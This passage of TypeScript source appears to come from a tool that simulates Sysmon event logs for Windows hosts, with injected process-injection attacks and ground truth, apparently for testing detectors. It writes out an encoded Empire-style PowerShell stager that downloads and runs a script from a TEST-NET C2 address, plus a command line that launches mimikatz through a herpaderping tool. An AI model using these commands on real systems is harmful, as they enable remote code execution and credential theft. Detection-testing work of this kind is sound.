            } else if (this.chrome && this.chrome.startMs < t && this.chrome.endMs > at + 1_000 && roll < 0.45) {
                this.em.network(at, this.chrome, rng.pick(WEB));
            } else if (roll < 0.6) {
                this.em.network(at, procs.netsvcs, rng.pick(UPDATE));
            } else if (roll < 0.7) {
                this.em.network(at, procs.msmpeng, DEFENDER_CLOUD);
            } else if (roll < 0.8) {
                this.em.network(at, procs.agent, AGENT_SERVER);
            } else if (roll < 0.92) {
                this.em.network(at, procs.lsass, rng.pick(DC));
            } else {
                const office = this.pickRunning(t, (p) => p.role === 'office' || p.role === 'powershell');
                if (office) this.em.network(at, office, office.role === 'office' ? (WEB[1] as Peer) : AGENT_SERVER);
                else this.em.network(at, procs.explorer, WEB[5] as Peer);
            }
        }
    }

    private imageLoads(t: number): void {
        const rng = this.rng;
        const p = this.anyProcess(t);
        let at = t;
        for (let i = rng.range(1, 3); i > 0; i--, at += rng.range(1, 20)) {
            // PowerShell keeps loading unsigned NGen images as it runs cmdlets (schtask_create).
            this.em.imageLoad(at, p, p.role === 'powershell' && rng.chance(0.5) ? DLL.systemNi : rng.pick(COMMON_DLLS));
        }
    }

    /** Query-only handle opens: the bulk of real EID 10 (0x1000, 0x1400, 0x1410 by svchost.exe, MsMpEng.exe, explorer.exe). */
    private queries(t: number): void {
        const rng = this.rng;
        const { procs } = this.profile;
        const count = rng.range(1, 3);
        for (let i = 0, at = t; i < count; i++, at += rng.range(0, 30)) {
            const target = this.anyProcess(t);
            const roll = rng.next();
            if (roll < 0.3) this.em.access(at, procs.dcom, target, '0x1000', TRACE.rpcssQuery);
            else if (roll < 0.45) this.em.access(at, procs.psm, target, '0x1000', TRACE.psmQuery);
            else if (roll < 0.55) this.em.access(at, procs.theme, target, '0x1400', TRACE.themeQuery);
            else if (roll < 0.75)
                this.em.access(at, procs.msmpeng, target, rng.chance(0.6) ? '0x1410' : '0x1000', TRACE.defenderQuery);
            else if (roll < 0.93)
                this.em.access(at, procs.explorer, target, rng.chance(0.8) ? '0x1000' : '0x1410', TRACE.explorerQuery);
            else this.em.access(at, procs.lsass, target, '0x1000', TRACE.lsassQuery);
        }
    }

    private files(t: number): void {
        const rng = this.rng;
        const { procs } = this.profile;
        const home = homeOf(this.profile);
        const roll = rng.next();
        if (this.chrome && this.chrome.startMs < t && this.chrome.endMs > t + 5_000 && roll < 0.3) {
            if (rng.chance(0.3)) {
                const name = `${rng.pick(DOCS)}.pdf`;
                this.em.fileCreate(t, this.chrome, `${home}\\Downloads\\${name}.crdownload`);
                this.em.fileCreate(t + rng.range(300, 3_000), this.chrome, `${home}\\Downloads\\${name}`);
            } else {
                this.em.fileCreate(
                    t,
                    this.chrome,
                    `${home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_${rng.hex(6)}`,
                );
            }
        } else if (roll < 0.55) {
            const exe = rng.pick([
                'CMD.EXE',
                'NOTEPAD.EXE',
                'SVCHOST.EXE',
                'RUNTIMEBROKER.EXE',
                'TASKHOSTW.EXE',
                'WMIPRVSE.EXE',
                'CONHOST.EXE',
            ]);
            this.em.fileCreate(
                t,
                procs.netsvcs,
                `C:\\Windows\\Prefetch\\${exe}-${upperHex(rng, 8)}.pf`,
                t - rng.range(86_400_000, 30 * 86_400_000),
            );
        } else if (roll < 0.7) {
            this.em.fileCreate(
                t,
                procs.msmpeng,
                `C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\${upperHex(rng, 8)}-0.bin`,
            );
        } else if (roll < 0.85) {
            this.em.fileCreate(
                t,
                procs.explorer,
                `${home}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\${rng.pick(DOCS)}.lnk`,
            );
        } else {
            this.em.fileCreate(t, procs.agent, `C:\\ProgramData\\Contoso\\InventoryAgent\\cache\\${rng.hex(12)}.tmp`);
        }
    }

    private registryWrites(t: number): void {
        const rng = this.rng;
        const { procs, domainSid } = this.profile;
        const sid = `${domainSid}-${1100 + this.profile.index}`;
        const roll = rng.next();
        if (roll < 0.4) {
            this.em.registry(
                t,
                procs.explorer,
                `HKU\\${sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\${rng.pick(['HRZR_PGYFRFFVBA', 'HRZR_PGYPHNPbhag:pgbe', '{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\abgrcnq.rkr'])}`,
                'Binary Data',
            );
        } else if (roll < 0.7) {
            this.em.registry(
                t,
                procs.services,
                `HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\${sid}\\\\Device\\HarddiskVolume3\\Windows\\System32\\${rng.pick(['cmd.exe', 'notepad.exe', 'WindowsPowerShell\\v1.0\\powershell.exe'])}`,
                'Binary Data',
            );
        } else if (roll < 0.85) {
            this.em.registry(
                t,
                procs.agent,
                'HKLM\\SOFTWARE\\Contoso\\InventoryAgent\\LastRun',
                `QWORD (0x${rng.hex(8)}-0x${rng.hex(8)})`,
            );
        } else {
            this.em.registry(
                t,
                procs.msmpeng,
                'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastChecked',
                `Binary Data`,
            );
        }
    }

    private ctrl(t: number): void {
        const target = this.pickRunning(t, (p) => p.image.console && p.role !== 'conhost');
        this.em.ctrlRoutine(t, target ?? this.profile.procs.netsvcs);
    }
}

// ------------------------------------------------------------------------------------------------ attacks

interface AttackBuild {
    injector: Proc;
    target: Proc;
    technique: AttackTechnique;
    modeledOn: string;
}

interface AttackContext {
    em: Emitter;
    /** The injection starts here. */
    at: number;
    /** Shrinks preparation intervals when the attack sits close to the start of the stream. */
    scale: number;
    /** explorer.exe of this host was already the target of an earlier shellcode-thread attack. */
    explorerTaken: boolean;
}

/** A preparation step `ms` before the injection (scaled down near the start of the stream, never under `minimum`). */
function before(ctx: AttackContext, ms: number, minimum = 1): number {
    return ctx.at - Math.max(minimum, Math.round(ms * ctx.scale));
}

function c2(rng: Rng): string {
    return `203.0.113.${rng.range(10, 250)}`;
}

/** An Empire-style stager command line (the shape of the empire_* recordings' launchers, pointing at a TEST-NET C2). */
function stagerCommandLine(c2Ip: string): string {
    const script = `$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:11.0) like Gecko');$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;IEX $wc.DownloadString('http://${c2Ip}/login/process.php')`;
    return `powershell -noP -sta -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
}

/** The operator's elevated cmd.exe, started from explorer.exe about `ms` before the injection (at least 5 s). */
function elevatedCmd(ctx: AttackContext, ms: number, cwd: string): Proc {
    const { host } = ctx.em;
    return ctx.em.createProcess(before(ctx, ms, 5_000), host.procs.explorer, {
        image: IMG.cmd,
        commandLine: SHELL_CMD_COMMAND,
        role: 'cmd',
        session: host.sessions.admin,
        cwd,
    });
}

/**
 * An attack program (dropper, implant, tool) that `parent` starts at `plannedStart`, though never within a second of
 * the parent's own start (a command is typed only once its console is open); it exits `exitsAfterMs` after the injection.
 */
function runAttackProgram(
    ctx: AttackContext,
    parent: Proc,
    plannedStart: number,
    launch: Pick<Launch, 'image' | 'commandLine' | 'cwd'>,
    exitsAfterMs: number,
): Proc {
    const start = Math.max(parent.startMs + 1_000, plannedStart);
    return ctx.em.createProcess(start, parent, {
        ...launch,
        role: 'attack',
        lifetimeMs: ctx.at - start + exitsAfterMs,
    });
}

/** A version resource whose fields Sysmon could not read: it writes `?` for each. */
const UNREADABLE_VERSION: ImageMeta = { fileVersion: '?', description: '?', product: '?', company: '?' };

/**
 * Process hollowing, after EVTX-ATTACK-SAMPLES `apt10_jjs_sideloading_prochollowing_persist_as_service_sysmon_1_7_8_13`:
 * a side-loading dropper (a genuine jjs.exe with an unsigned jli.dll next to it) starts svchost.exe with no `-k` (or
 * rundll32.exe with no arguments) and starts a thread in it at an address no module backs (StartModule empty), then
 * the hollowed host calls out.
 */
function buildHollowing(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const folder = `${homeOf(host)}\\Downloads\\${rng.pick(['info', 'invoice_0424', 'scan_docs', 'po_2291'])}`;
    const dropperImage = image(`${folder}\\jjs.exe`, {
        fileVersion: '8.0.1710.11',
        description: 'Java(TM) Platform SE binary',
        product: 'Java(TM) Platform SE 8',
        company: 'Oracle Corporation',
        originalFileName: 'jjs.exe',
        signature: 'Oracle America, Inc.',
        console: true,
    });
    const jli = image(`${folder}\\jli.dll`, { ...UNREADABLE_VERSION, signed: false });
    const dropper = runAttackProgram(
        ctx,
        host.procs.explorer,
        before(ctx, rng.range(3_000, 20_000), 1_500),
        {
            image: dropperImage,
            commandLine: shellCommandLine(dropperImage.path),
            cwd: `${folder}\\`,
        },
        rng.range(4_000, 20_000),
    );
    em.imageLoad(dropper.startMs + rng.range(100, 140), dropper, jli);
    const svchost = rng.chance(0.6);
    const target = em.createProcess(ctx.at, dropper, {
        image: svchost ? IMG.svchost : IMG.rundll32,
        commandLine: svchost ? 'C:\\Windows\\system32\\svchost.exe' : 'C:\\Windows\\system32\\rundll32.exe',
        role: 'attack',
        cwd: 'C:\\Windows\\system32\\',
        // CreateProcess called from the side-loaded DLL: module-backed, nothing unusual in the stack itself.
        trace: `${CREATE_HEAD}|${frames(jli.path, ['1b2c4', '1a9e0'])}|${frames(dropperImage.path, ['1f21', '1e6d'])}|${THREAD_BASE}`,
    });
    em.thread(target.startMs + rng.range(8, 15), dropper, target, `0x000001${upperHex(rng, 6)}0000`, '-', '-');
    em.network(target.startMs + rng.range(1_000, 4_000), target, {
        ip: c2(rng),
        host: '-',
        port: rng.pick([443, 80, 8080]),
    });
    return {
        injector: dropper,
        target,
        technique: 'T1055.012',
        modeledOn:
            'EVTX-ATTACK-SAMPLES Defense_Evasion/apt10_jjs_sideloading_prochollowing_persist_as_service_sysmon_1_7_8_13',
    };
}

/**
 * Classic DLL injection, after Security-Datasets `empire_dllinjection_LoadLibrary_CreateRemoteThread` (rid 1780488-1780495):
 * an Empire PowerShell agent opens a running notepad.exe with 0x1f3fff from JIT code (CallTrace ntdll, KERNELBASE,
 * then UNKNOWN, no CLR frame), starts a thread at KERNEL32!LoadLibraryA, and notepad.exe loads the unsigned DLL the
 * agent wrote to ProgramData (as in psh_mavinject_dll_notepad); then a query-only open from managed code.
 */
function buildRemoteThreadDll(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const home = homeOf(host);
    const notepadStart = before(ctx, rng.range(60_000, 240_000), 6_000);
    const notepad = em.createProcess(
        notepadStart,
        host.procs.explorer,
        notepadOnDocument(home, rng.pick(DOCS), 'attack'),
    );
    const c2Ip = c2(rng);
    const psStart = Math.max(notepadStart + 500, before(ctx, rng.range(15_000, 50_000), 4_000));
    const ps = em.createProcess(psStart, host.procs.explorer, {
        image: IMG.powershell,
        commandLine: stagerCommandLine(c2Ip),
        role: 'attack',
        cwd: `${home}\\`,
        loads: [DLL.mscoree, DLL.clr, DLL.smaNi, DLL.systemNi],
    });
    for (let beacon = ps.startMs + rng.range(1_500, 3_000); beacon < ctx.at - 500; beacon += rng.range(4_000, 6_000)) {
        em.network(beacon, ps, { ip: c2Ip, host: '-', port: 80 });
    }
    const dll = image(`C:\\ProgramData\\${rng.pick(['launcher.dll', 'msupdate.dll', 'wintrust64.dll', 'T1055.dll'])}`, {
        signed: false,
    });
    em.fileCreate(Math.max(ps.startMs + 800, before(ctx, rng.range(2_000, 8_000), 300)), ps, dll.path);
    em.access(
        ctx.at,
        ps,
        notepad,
        '0x1f3fff',
        `${NT}+9c534|${KB}+2726e|${unknownFrame(`00007FFF${upperHex(rng, 8)}`)}`,
    );
    const threadAt = ctx.at + rng.range(12, 24);
    em.thread(threadAt, ps, notepad, host.loadLibraryAddress, 'C:\\Windows\\System32\\KERNEL32.DLL', 'LoadLibraryA');
    em.imageLoad(threadAt + rng.range(0, 3), notepad, dll);
    em.access(
        threadAt + rng.range(10, 16),
        ps,
        notepad,
        '0x1410',
        `${TRACE.managedQuery}|${unknownFrame(jitAddress(rng))}`,
    );
    return {
        injector: ps,
        target: notepad,
        technique: 'T1055.001',
        modeledOn: 'Security-Datasets empire_dllinjection_LoadLibrary_CreateRemoteThread',
    };
}

/**
 * Shellcode injection into a running process, after EVTX-ATTACK-SAMPLES `meterpreter_migrate_to_explorer_sysmon_8`
 * (EID 8 into explorer.exe, StartModule empty) with the handle open of `CA_sysmon_hashdump_cmd_meterpreter` (0x1f1fff,
 * UNKNOWN frames between KERNELBASE and the thread base): an msfvenom-built binary in C:\Users\Public migrates.
 */
function buildShellcodeThread(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const name = rng.pick(['m.exe', 'update.exe', 'msupd.exe', 'svch0st.exe']);
    // msfvenom's default template is ApacheBench (ab.exe): its version resource survives in the payload.
    const implantImage = image(`C:\\Users\\Public\\${name}`, {
        fileVersion: '2.2.14',
        description: 'ApacheBench command line utility',
        product: 'Apache HTTP Server',
        company: 'Apache Software Foundation',
        originalFileName: 'ab.exe',
        signed: false,
        console: true,
    });
    const implant = runAttackProgram(
        ctx,
        host.procs.explorer,
        before(ctx, rng.range(10_000, 60_000), 3_000),
        {
            image: implantImage,
            commandLine: shellCommandLine(implantImage.path),
            cwd: 'C:\\Users\\Public\\',
        },
        rng.range(2_000, 8_000),
    );
    const c2Ip = c2(rng);
    em.network(implant.startMs + rng.range(500, 1_500), implant, { ip: c2Ip, host: '-', port: 4444 });
    let target = host.procs.explorer;
    if (ctx.explorerTaken) {
        // explorer.exe of this host is already another attack's target: migrate into a notepad.exe instead.
        target = em.createProcess(
            before(ctx, rng.range(70_000, 200_000), 8_000),
            host.procs.explorer,
            notepadOnDocument(homeOf(host), rng.pick(DOCS), 'attack'),
        );
    }
    const base = `0000${upperHex(rng, 8)}`;
    const unbacked = ['1606', '1F41', '1515', '7486', '73A0', '78A3']
        .map((low) => unknownFrame(`${base}${low}`))
        .join('|');
    em.access(ctx.at, implant, target, '0x1f1fff', `${OPEN_HEAD}|${unbacked}|${THREAD_BASE}`);
    em.thread(ctx.at + rng.range(20, 300), implant, target, `0x${base}0000`, '-', '-');
    em.network(ctx.at + rng.range(1_000, 3_000), target, { ip: c2Ip, host: '-', port: 4444 });
    return {
        injector: implant,
        target,
        technique: 'T1055.002',
        modeledOn:
            'EVTX-ATTACK-SAMPLES Defense_Evasion/meterpreter_migrate_to_explorer_sysmon_8 (+ Credential_Access/CA_sysmon_hashdump_cmd_meterpreter for the EID 10)',
    };
}

/**
 * Process Herpaderping, after Security-Datasets `cmd_process_herpaderping_mimiexplorer` and EVTX-ATTACK-SAMPLES
 * `DE_ProcessHerpaderping_Sysmon_11_10_1_7`: the tool writes an executable, creates the process from an image
 * section (NtCreateProcessEx: the creator access has ntdll then the tool's own frames, no KERNELBASE), overwrites
 * the file and starts the thread. TargetImage of its EID 10 is the bare file name; csrss.exe opens the process only
 * ~100 ms later, from CSRSRV (no CreateProcess registration); the image load of itself is unsigned.
 */
function buildHerpaderping(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng, host } = em;
    const desktop = `${homeOf(host)}\\Desktop`;
    const cmd = elevatedCmd(ctx, rng.range(20_000, 90_000), `${desktop}\\`);
    const name = rng.pick(['svc_update.exe', 'report.exe', 'chromeupdate.exe', 'wardog.exe']);
    const toolImage = image(`${desktop}\\ProcessHerpaderping.exe`, {
        fileVersion: '1.0.0.1',
        description: 'Process Herpaderping Tool',
        product: 'Process Herpaderping Tool',
        company: 'Johnny Shaw',
        originalFileName: 'ProcessHerpaderping.exe',
        signed: false,
        console: true,
    });
    const life = rng.range(20_000, 180_000);
    const tool = runAttackProgram(
        ctx,
        cmd,
        before(ctx, rng.range(500, 3_000), 200),
        {
            image: toolImage,
            commandLine: `ProcessHerpaderping.exe  mimikatz.exe ${name} "C:\\Program Files (x86)\\Internet Explorer\\iexplore.exe"`,
            cwd: `${desktop}\\`,
        },
        life + rng.range(100, 400),
    );
    const path = `${desktop}\\${name}`;
    em.fileCreate(ctx.at, tool, path);
    const accessAt = ctx.at + rng.range(55, 70);
    const payload = image(path, { signed: false });
    const target = em.newProcess(
        accessAt + rng.range(2, 4),
        payload,
        `"${name}"`,
        tool.session,
        `${desktop}\\`,
        'attack',
    );
    const toolPath = tool.image.path;
    em.access(
        accessAt,
        tool,
        target,
        '0x1fffff',
        `${NT}+9ca64|${frames(toolPath, ['d5b2c', 'ed9bc', '1593d9', '15927e', '15913e', '159469'])}|${K32}+17c24|${NT}+6cea1`,
        name,
    );
    em.processCreate(target.startMs, target, tool);
    em.imageLoad(target.startMs + rng.range(6, 12), target, payload);
    em.access(target.startMs + rng.range(95, 120), host.procs.csrss, target, '0x1fffff', TRACE.csrssConnect, name);
    em.access(target.startMs + rng.range(300, 400), host.procs.lsass, target, '0x1478', TRACE.lsassToken, name);
    em.end(target, target.startMs + life);
    return {
        injector: tool,
        target,
        technique: 'T1055',
        modeledOn:
            'Security-Datasets cmd_process_herpaderping_mimiexplorer; EVTX-ATTACK-SAMPLES Defense_Evasion/DE_ProcessHerpaderping_Sysmon_11_10_1_7',
    };
}

/**
 * Code injected into a console host, after EVTX-ATTACK-SAMPLES `evasion_codeinj_odzhan_conhost_sysmon_10_1`: a tool
 * in C:\Users\Public injects the conhost.exe of its own console (no event for that step in the recording), and the
 * injected code creates notepad.exe (no arguments). The creator access comes through CreateProcess, but its
 * outermost frame is unbacked memory: ntdll|KERNELBASE|KERNELBASE|KERNELBASE|KERNEL32|UNKNOWN(000002022934003D).
 */
function buildUnbackedCreator(ctx: AttackContext): AttackBuild {
    const { em } = ctx;
    const { rng } = em;
    const cmd = elevatedCmd(ctx, rng.range(30_000, 120_000), 'C:\\Windows\\system32\\');
    const conhost = cmd.console as Proc;
    const folder = 'C:\\Users\\Public\\tools\\evasion';
    const toolImage = image(`${folder}\\chost.exe`, {
        ...UNREADABLE_VERSION,
        originalFileName: '?',
        signed: false,
        console: true,
    });
    runAttackProgram(
        ctx,
        cmd,
        before(ctx, rng.range(30, 2_500), 30),
        { image: toolImage, commandLine: 'chost.exe  payload.bin', cwd: `${folder}\\` },
        rng.range(300, 3_000),
    );
    const target = em.createProcess(ctx.at, conhost, {
        image: IMG.notepad,
        commandLine: 'notepad',
        role: 'attack',
        cwd: 'C:\\Windows\\',
        trace: `${NT}+9d8e4|${KB}+5f36a|${KB}+5c5ca|${KB}+5bd86|${K32}+5e90b|${unknownFrame(`0000${upperHex(rng, 4)}${upperHex(rng, 4)}003D`)}`,
    });
    return {
        injector: conhost,
        target,
        technique: 'T1055.012',
        modeledOn: 'EVTX-ATTACK-SAMPLES Defense_Evasion/evasion_codeinj_odzhan_conhost_sysmon_10_1',
    };
}

const BUILDERS: Record<AttackKind, (ctx: AttackContext) => AttackBuild> = {
    hollowing: buildHollowing,
    'remote-thread-dll': buildRemoteThreadDll,
    'shellcode-thread': buildShellcodeThread,
    herpaderping: buildHerpaderping,
    'unbacked-creator': buildUnbackedCreator,
};

/** The longest preparation any builder asks for; nearer the start of the stream it is shrunk proportionally. */
const LONGEST_PREPARATION_MS = 240_000;

interface PlannedEvent {
    t: number;
    host: number;
    event: FlatSysmonEvent;
}

interface FleetPlan {
    seed: number;
    startMs: number;
    endMs: number;
    eventsPerSecond: number;
    profiles: HostProfile[];
    attackEvents: PlannedEvent[];
}

function planAttacks(
    options: SimulateOptions,
    profiles: HostProfile[],
    startMs: number,
    endMs: number,
): { attacks: InjectedAttack[]; events: PlannedEvent[] } {
    const kinds = options.attackKinds ?? ATTACK_KINDS;
    const rng = new Rng(deriveSeed(options.seed, 'attack-plan'));
    const duration = endMs - startMs;
    const explorerTaken = new Set<number>();
    const attacks: InjectedAttack[] = [];
    const events: PlannedEvent[] = [];
    for (let i = 0; i < options.attacks; i++) {
        const kind = kinds[i % kinds.length] as AttackKind;
        let hostIndex = rng.int(profiles.length);
        if (kind === 'shellcode-thread' && explorerTaken.has(hostIndex)) {
            // Prefer a host whose explorer.exe is still untouched, so each attack keeps its own target.
            const free = profiles.map((p) => p.index).filter((index) => !explorerTaken.has(index));
            if (free.length > 0) hostIndex = rng.pick(free);
        }
        const profile = profiles[hostIndex] as HostProfile;
        const earliest = startMs + Math.max(8_000, duration * 0.1);
        const latest = startMs + duration * 0.8;
        const at = Math.floor(earliest + rng.next() * Math.max(0, latest - earliest));
        const emitter = new Emitter(
            profile,
            new Rng(deriveSeed(options.seed, 'attack', i)),
            (t, event) => events.push({ t, host: hostIndex, event }),
            () => profile.attackCounter++,
        );
        const build = BUILDERS[kind]({
            em: emitter,
            at,
            scale: Math.min(1, (at - startMs - 2_000) / LONGEST_PREPARATION_MS),
            explorerTaken: explorerTaken.has(hostIndex),
        });
        if (kind === 'shellcode-thread' && build.target === profile.procs.explorer) explorerTaken.add(hostIndex);
        attacks.push({
            kind,
            host: profile.name,
            injectorImage: build.injector.image.path,
            targetImage: build.target.image.path,
            injectorGuid: bareGuid(build.injector.guid),
            targetGuid: bareGuid(build.target.guid),
            technique: build.technique,
            at: new Date(at).toISOString(),
            modeledOn: build.modeledOn,
        });
    }
    attacks.sort((a, b) => (a.at < b.at ? -1 : a.at > b.at ? 1 : 0));
    return { attacks, events };
}

// ------------------------------------------------------------------------------------------------ merge by time

interface Pending {
    t: number;
    seq: number;
    host: number;
    /** Undefined marks the host's next background episode. */
    event: FlatSysmonEvent | undefined;
}

/** A binary min-heap on (time, insertion order): equal times leave in the order they were queued. */
class PendingQueue {
    private readonly items: Pending[] = [];
    private seq = 0;

    get size(): number {
        return this.items.length;
    }

    push(t: number, host: number, event: FlatSysmonEvent | undefined): void {
        const items = this.items;
        const entry: Pending = { t, seq: this.seq++, host, event };
        let i = items.length;
        items.push(entry);
        while (i > 0) {
            const parent = (i - 1) >> 1;
            const above = items[parent] as Pending;
            if (above.t < t || (above.t === t && above.seq < entry.seq)) break;
            items[i] = above;
            i = parent;
        }
        items[i] = entry;
    }

    pop(): Pending | undefined {
        const items = this.items;
        const top = items[0];
        const last = items.pop();
        if (top === undefined || last === undefined || items.length === 0) return top;
        const n = items.length;
        let i = 0;
        for (;;) {
            const left = 2 * i + 1;
            if (left >= n) break;
            const right = left + 1;
            let child = left;
            let c = items[left] as Pending;
            if (right < n) {
                const r = items[right] as Pending;
                if (r.t < c.t || (r.t === c.t && r.seq < c.seq)) {
                    child = right;
                    c = r;
                }
            }
            if (last.t < c.t || (last.t === c.t && last.seq < c.seq)) break;
            items[i] = c;
            i = child;
        }
        items[i] = last;
        return top;
    }
}

function* generateEvents(plan: FleetPlan): Generator<FlatSysmonEvent> {
    const queue = new PendingQueue();
    const meanGapPerEvent = 1000 / plan.eventsPerSecond;
    const hosts = plan.profiles.map((profile) => {
        const rng = new Rng(deriveSeed(plan.seed, 'background', profile.index));
        return new BackgroundHost(profile, rng, (t, event) => queue.push(t, profile.index, event), plan.endMs);
    });
    const recordIds = plan.profiles.map((profile) => profile.recordStart);
    for (const planned of plan.attackEvents) queue.push(planned.t, planned.host, { ...planned.event });
    for (const host of hosts)
        queue.push(
            plan.startMs + Math.floor(host.em.rng.exponential(4 * meanGapPerEvent)),
            host.profile.index,
            undefined,
        );

    for (;;) {
        const next = queue.pop();
        if (next === undefined || next.t >= plan.endMs) return;
        if (next.event === undefined) {
            // An episode only queues events at its own time or later, so everything already popped stays in order.
            const host = hosts[next.host] as BackgroundHost;
            const made = host.episode(next.t);
            // The next episode waits, on average, as long as the events just made take at the target rate.
            const gap = host.em.rng.exponential(Math.max(1, made) * meanGapPerEvent);
            queue.push(next.t + Math.max(1, Math.floor(gap)), next.host, undefined);
            continue;
        }
        // Record ids count up per host in the order events are written, as the Sysmon channel numbers them.
        const recordId = (recordIds[next.host] ?? 0) + 1;
        recordIds[next.host] = recordId;
        next.event.EventRecordID = recordId;
        yield next.event;
    }
}

// ------------------------------------------------------------------------------------------------ entry point

/**
 * Plans a fleet and its attacks and returns the event stream (lazy, re-iterable, deterministic for a given seed and
 * start) with the ground truth of the injected attacks. Throws a RangeError for unusable options.
 * @example const { events, attacks } = simulateFleet({ hosts: 3, eventsPerSecond: 20, durationSeconds: 300, attacks: 5, seed: 1, start: new Date('2024-05-01T10:00:00Z') });
 */
export function simulateFleet(options: SimulateOptions): SimulatedStream {
    const problem = validateSimulateOptions(options);
    if (problem !== undefined) throw new RangeError(problem);
    const startMs = Math.floor(options.start.getTime());
    const endMs = startMs + Math.round(options.durationSeconds * 1000);
    const layout = new Rng(deriveSeed(options.seed, 'fleet'));
    const serverCount = options.hosts === 1 ? 0 : Math.max(1, Math.round(options.hosts / 5));
    const serverSlots = new Set<number>();
    while (serverSlots.size < serverCount) serverSlots.add(layout.int(options.hosts));
    let servers = 0;
    let workstations = 0;
    const profiles: HostProfile[] = [];
    for (let index = 0; index < options.hosts; index++) {
        const server = serverSlots.has(index);
        const name = hostName(server, server ? ++servers : ++workstations);
        profiles.push(makeHostProfile(index, server, name, options.seed, startMs));
    }
    const { attacks, events } = planAttacks(options, profiles, startMs, endMs);
    const plan: FleetPlan = {
        seed: options.seed,
        startMs,
        endMs,
        eventsPerSecond: options.eventsPerSecond,
        profiles,
        attackEvents: events,
    };
    return {
        events: { [Symbol.iterator]: () => generateEvents(plan) },
        attacks,
        hosts: profiles.map((p) => p.name),
        startMs,
        endMs,
    };
}
